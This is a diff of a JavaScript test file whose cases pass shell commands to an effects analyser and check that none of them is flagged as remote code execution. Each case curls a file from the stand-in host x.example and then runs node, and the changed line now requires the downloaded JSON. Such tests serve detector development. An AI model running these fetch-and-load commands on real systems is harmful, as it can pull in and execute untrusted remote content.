@@ -65,7 +65,7 @@ describe('modules that nobody has read', () => {
 
   test.each([
     `curl -so l.js https://x.example/l.js; node -e 'require("./other")'`,
-    `curl -so l.json https://x.example/l.json; node -e 'console.log(1)'`,
+    `curl -so l.json https://x.example/l.json; node -e 'require("./l.json")'`,
   ])('not loaded: %s', async (command) => {
     const effects = await exampleEffects(command)
     expect(effects).not.toContain('remote-code run code')
